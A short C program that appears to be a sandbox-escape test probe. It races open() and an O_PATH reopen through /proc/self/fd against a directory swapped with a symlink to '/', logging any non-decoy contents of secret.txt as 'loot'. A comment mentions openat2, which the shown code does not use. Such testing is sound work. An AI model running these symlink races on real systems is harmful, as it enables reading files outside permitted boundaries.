// Class 2: open() of a path whose directory is swapped with a symlink to "/" in a loop.
#include "race.h"

int main(void) {
  p_start();
  char* base = race_setup();
  char* path = p_strf("%s/secret.txt", base);
  long tries = 0, hits = 0;
  race_begin();
  double end = now_s() + RACE_SECONDS;
  while (now_s() < end && hits < 3) {
    ++tries;
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && strncmp(buf, "decoy", 5) != 0) {
      ++hits;
      p_loot("race open", buf, (size_t)n);
    }
  }
  race_end("open", tries, hits);
  // The same with openat2 (no RESOLVE flags) and with an O_PATH fd reopened via /proc/self/fd.
  race_begin();
  tries = hits = 0;
  end = now_s() + RACE_SECONDS;
  while (now_s() < end && hits < 3) {
    ++tries;
    int fd = open(path, O_PATH);
    if (fd < 0) continue;
    int f = open(p_strf("/proc/self/fd/%d", fd), O_RDONLY);
    close(fd);
    if (f < 0) continue;
    char buf[256];
    ssize_t n = read(f, buf, sizeof buf - 1);
    close(f);
    if (n > 0 && strncmp(buf, "decoy", 5) != 0) {
      ++hits;
      p_loot("race O_PATH", buf, (size_t)n);
    }
  }
  race_end("O_PATH+reopen", tries, hits);
  p_end();
}
